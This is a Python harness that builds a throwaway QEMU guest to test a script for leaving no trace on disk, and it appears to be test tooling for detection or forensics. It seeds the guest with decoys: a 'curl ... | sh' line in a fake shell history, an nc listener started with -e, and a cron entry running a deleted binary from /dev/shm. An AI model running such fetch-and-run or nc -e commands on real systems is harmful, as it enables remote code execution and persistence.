"""A guest for the proof: the kernel of Debian's cloud images with a few of its modules, busybox, and curl, all from
packages that are unpacked and not installed. No root file system: an initial RAM disk, and one ext4 disk beside it, to
show that nothing is written there.
"""

from __future__ import annotations

import gzip
import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

# Modules in the order in which they load; those that are built in are not there.
MODULES = [
    *("drivers/virtio/virtio_ring", "drivers/virtio/virtio", "drivers/virtio/virtio_pci_legacy_dev"),
    *("drivers/virtio/virtio_pci_modern_dev", "drivers/virtio/virtio_pci", "net/core/failover"),
    *("drivers/net/net_failover", "drivers/net/virtio_net", "drivers/block/virtio_blk"),
    *("lib/crc16", "crypto/crc32c_generic", "arch/x86/crypto/crc32c-intel", "fs/mbcache", "fs/jbd2/jbd2", "fs/ext4/ext4"),
]
TOOLS = (
    "sh mount umount insmod ifconfig route sleep poweroff cat echo ls sha256sum cut cp rm nc uname grep chmod tr head mkdir "
    "printf rmdir sync stat"
)

INIT = r"""#!/bin/sh
export PATH=/bin
mount -t proc proc /proc; mount -t sysfs sys /sys; mount -t devtmpfs dev /dev
mount -t securityfs sec /sys/kernel/security 2>/dev/null
mkdir -p /dev/shm /run /disk; mount -t tmpfs shm /dev/shm; mount -t tmpfs -o noexec run /run
for module in /modules/*.ko; do insmod $module || echo "GUEST insmod $module failed"; done
ifconfig lo up; ifconfig eth0 10.0.2.15 netmask 255.255.255.0 up; route add default gw 10.0.2.2
mount -t ext4 /dev/vda /disk && mkdir -p /var/spool /root && ln -s /disk/cron /var/spool/cron 2>/dev/null
. /settings
# The marker is made here, so that it stands in no file: only a process' memory has it.
MARK="MARK-$(echo -n "proof-$nonce" | sha256sum | cut -c1-64)-END" sleep 100000 &
cp /bin/busybox /dev/shm/sleep; /dev/shm/sleep 100001 & sleep 1; rm /dev/shm/sleep
nc -ll -p 4444 -e /bin/cat &
sync; sleep 1
written() { set -- $(cat /sys/block/vda/stat); echo "$7"; }
before=$(written)
echo "GUEST kernel $(uname -r) lockdown $(cat /sys/kernel/security/lockdown 2>/dev/null)"
sh /document.sh
echo "GUEST code $?"
sync; sleep 1
echo "GUEST sectors-written $(( $(written) - before ))"
echo "GUEST left-over $(ls -A /dev/shm /run | tr '\n' ' ')"
poweroff -f
"""


class NotHere(Exception):
    """What is missing for a proof, in words."""


def unpack(cache: Path, arch: str = "amd64") -> Path:
    """The kernel of Debian's cloud images, unpacked into the cache."""
    meta = subprocess.run(["apt-cache", "depends", f"linux-image-cloud-{arch}"], capture_output=True, text=True, check=False)
    found = re.search(r"Depends: (linux-image-\S+)", meta.stdout)
    if not found:
        raise NotHere(f"no package linux-image-cloud-{arch}: this needs Debian's packages (apt-get update)")
    folder = cache / f"vm-{found.group(1)}"
    if not (folder / "ready").exists():
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        with tempfile.TemporaryDirectory(dir=cache) as downloads:
            subprocess.run(["apt-get", "download", "-qq", found.group(1)], cwd=downloads, check=True, capture_output=True)
            package = next(Path(downloads).glob("*.deb"))
            subprocess.run(["dpkg", "-x", package, folder], check=True)
        (folder / "ready").touch()
    return folder


def programs(root: Path) -> None:
    """busybox with its names, and curl with its libraries."""
    (root / "bin").mkdir()
    shutil.copy(shutil.which("busybox") or "/bin/busybox", root / "bin/busybox")
    for tool in TOOLS.split():
        (root / "bin" / tool).symlink_to("busybox")
    curl = shutil.which("curl")
    if not curl:
        raise NotHere("curl is not installed")
    shutil.copy(curl, root / "bin/curl")
    libraries = subprocess.run(["ldd", curl], capture_output=True, text=True, check=True).stdout
    for library in re.findall(r"(/\S+\.so\S*)", libraries):
        (root / library[1:]).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(os.path.realpath(library), root / library[1:])


def initial_ram_disk(kernel: Path, target: Path, script: str, settings: dict[str, str], authority: Path) -> None:
    with tempfile.TemporaryDirectory(dir=target.parent) as folder:
        root = Path(folder)
        for name in ("proc", "sys", "dev", "tmp", "modules", "etc", "root", "var", "disk", "run"):
            (root / name).mkdir()
        programs(root)
        modules = next((kernel / "lib/modules").iterdir()) / "kernel"
        for number, name in enumerate(MODULES):
            if (module := modules / f"{name}.ko").exists():
                shutil.copy(module, root / f"modules/{number:02}-{module.name}")
        shutil.copy(authority, root / "etc/authority.pem")
        (root / "root/.bash_history").write_text("curl http://203.0.113.9/x | sh\n")
        (root / "etc/hosts").write_text("127.0.0.1 localhost\n")
        (root / "settings").write_text("".join(f"export {name}='{value}'\n" for name, value in settings.items()))
        (root / "document.sh").write_text(script)
        (root / "init").write_text(INIT)
        (root / "init").chmod(0o755)
        names = subprocess.run(["find", "."], cwd=root, capture_output=True, check=True).stdout
        packed = subprocess.run(["cpio", "-o", "-H", "newc", "--quiet"], cwd=root, input=names, capture_output=True, check=True)
        target.write_bytes(gzip.compress(packed.stdout, 1))


def disk(target: Path) -> None:
    with tempfile.TemporaryDirectory(dir=target.parent) as folder:
        (Path(folder) / "cron").mkdir()
        (Path(folder) / "cron/root").write_text("* * * * * /dev/shm/sleep 100001\n")
        with target.open("wb") as file:
            file.truncate(16 << 20)
        subprocess.run(["mkfs.ext4", "-q", "-F", "-d", folder, target], check=True, capture_output=True)


def boot(kernel: Path, ram_disk: Path, volume: Path, memory_mib: int, arguments: str, limit: float) -> str:
    """Boots the guest, waits for its end, and gives what it said on its console."""
    console = ram_disk.with_suffix(".console")
    image = next((kernel / "boot").glob("vmlinuz-*"))
    command = [
        *("qemu-system-x86_64", "-accel", "tcg,thread=multi", "-cpu", "max,la57=off", "-smp", "2", "-m", str(memory_mib)),
        *("-display", "none", "-monitor", "none", "-serial", f"file:{console}", "-no-reboot", "-nodefaults"),
        *("-kernel", str(image), "-initrd", str(ram_disk), "-append", f"console=ttyS0 panic=-1 quiet {arguments}"),
        *("-netdev", "user,id=net", "-device", "virtio-net-pci,netdev=net"),
        *("-drive", f"file={volume},format=raw,if=virtio"),
    ]  # fmt: skip
    try:
        subprocess.run(command, check=True, timeout=limit, capture_output=True)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"the guest did not end in {limit:.0f} s:\n{console.read_text(errors='replace')[-3000:]}") from None
    return console.read_text(errors="replace")
